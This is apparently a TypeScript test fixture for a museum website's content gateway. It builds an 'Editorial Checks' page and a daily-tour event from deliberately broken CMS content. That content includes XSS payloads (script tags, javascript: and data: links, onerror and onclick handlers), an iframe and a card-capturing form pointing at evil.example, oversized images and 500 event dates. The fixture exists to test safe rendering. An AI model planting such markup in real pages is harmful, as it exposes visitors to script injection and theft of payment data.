/**
 * Content as it goes wrong in real content services: script in rich text, `javascript:` and `data:`
 * links, links to deleted documents, unknown block and section types, malformed images and videos,
 * an oversized image, hostile embedded HTML and an event with 500 dates. The gateway must render
 * what is safe and drop the rest (with a log line), never fail. Kept out of search and unlinked.
 */
import type { DateTime } from 'luxon';
import { cmsImage, isoDateTime, keyed, slug, systemFields } from '../base';
import type { MuseumEvent, Page, Section } from '../documents';
import { link, paragraph } from '../rich-text';
import { embedded, text } from './section-builders';

/** Editors' mistakes do not fit the schema's types: stored as they come. */
function stored<T>(value: object): T {
  return value as T;
}

export const HOSTILE_EVENT_OCCURRENCES = 500;

/** Markup an editor pasted into a plain-text field: the page shows it as typed. */
export const HOSTILE_PLAIN_TEXT = 'Pasted: </script><script>alert("json-ld")</script><!--';

const HOSTILE_HTML = [
  '<p>Opening hours <strong>today</strong>.</p>',
  '<script>document.body.innerHTML = "hacked"</script>',
  '<img src="x" onerror="alert(1)" alt="broken">',
  '<a href="javascript:alert(2)">a javascript link</a>',
  '<a href="/visit/tickets" onclick="alert(3)" target="_self">Tickets</a>',
  '<iframe src="https://evil.example/steal"></iframe>',
  '<iframe src="https://www.youtube-nocookie.com/embed/aqz-KE-bpKQ" title="A walk up the museum steps"></iframe>',
  '<style>body { display: none }</style>',
  '<form action="https://evil.example"><input name="card"></form>',
].join('\n');

function page(now: DateTime): Page {
  const sections: Section[] = keyed('section-checks', [
    text('Script in text', [
      paragraph('This text holds <script>alert("text")</script> as characters, which must show as typed.'),
      paragraph(link('A javascript link', { href: 'javascript:alert(1)' }), ', ', link('a data link', { href: 'data:text/html,<script>alert(1)</script>' }), ' and ', link('a link to a deleted page', { ref: 'page-deleted-long-ago' }), ' keep their text only.'),
      stored({ _type: 'pollWidget', question: 'Unknown block types are dropped' }),
      { _type: 'button', title: 'A button with a script link', url: 'javascript:alert(2)' },
      { _type: 'cmsImage', image: stored({ alt: 'An image without a source' }) },
      { _type: 'cmsImage', image: { ...cmsImage('checks-oversized', 'An oversized image'), width: 60000, height: 40000, crops: { '8x3': { x: -1, y: 0.2, width: 5, height: 0.3 } } }, caption: 'An oversized image, shown at the usual size' },
      { _type: 'videoAsset', url: 'https://videos.example/watch?v=1', mediaType: 'Video', caption: 'A video from an unknown host' },
      { _type: 'videoAsset', url: 'https://www.youtube.com/watch?v=aqz-KE-bpKQx', mediaType: 'Video', caption: 'A YouTube id of 12 characters' },
      { _type: 'map', lat: 39.96, lng: -75.18, address: 'An address without a place or link' },
    ]),
    embedded('Hostile embedded code', HOSTILE_HTML),
    stored<Section>({ _type: 'sectionPoll', title: 'An unknown section type' }),
    text('An unknown style', [paragraph('Shown in the default style.')], { style: 'neon-glow' }),
  ]);
  return {
    ...systemFields('page', 'page-about-editorial-checks', now.startOf('day').minus({ days: 3 })),
    title: 'Editorial Checks',
    slug: slug('editorial-checks'),
    path: '/about',
    intro: 'A page the editors use to check that unusual content displays safely.',
    section: 'about',
    noIndex: true,
    sections,
  };
}

/** A daily tour with 500 dates: most are ahead, some past. */
function manyDatesEvent(now: DateTime): MuseumEvent {
  const first = now.startOf('day').minus({ days: 100 }).set({ hour: 13 });
  const times = Array.from({ length: HOSTILE_EVENT_OCCURRENCES }, (_, day) => {
    const start = first.plus({ days: day });
    return { start: isoDateTime(start), end: isoDateTime(start.plus({ minutes: 45 })), isCanceled: false, isSoldOut: false };
  });
  return {
    ...systemFields('event', 'event-daily-gallery-tour', first.minus({ days: 7 })),
    title: 'Daily Gallery Tour',
    slug: slug('daily-gallery-tour'),
    path: '/calendar/event',
    // Code pasted into plain text shows as typed, and must never close the page's JSON-LD script.
    intro: `A 45-minute tour of the collection highlights, every day at 1:00 p.m. ${HOSTILE_PLAIN_TEXT}`,
    summary: 'A 45-minute tour of the collection highlights, every day at 1:00 p.m.',
    noIndex: true,
    image: cmsImage('event-daily-gallery-tour', 'A guide with visitors in a gallery'),
    startDate: times[0]?.start ?? '',
    endDate: times[times.length - 1]?.end ?? '',
    room: 'West Entrance',
    location: 'Main Building',
    locationType: 'In Person',
    category: 'Tours',
    audiences: ['Adults'],
    status: { isCanceled: false, isSoldOut: false },
    ticketUrl: '?keyword=DAILYTOUR',
    ticketType: 'Included with admission',
    ticketInstructions: null,
    weight: 10,
    eventDatetimes: keyed('datetime', times),
    relatedEventSeries: [],
    relatedExhibitions: [],
    speakers: [],
    sponsors: [],
  };
}

export function editorialChecks(now: DateTime): (Page | MuseumEvent)[] {
  return [page(now), manyDatesEvent(now)];
}
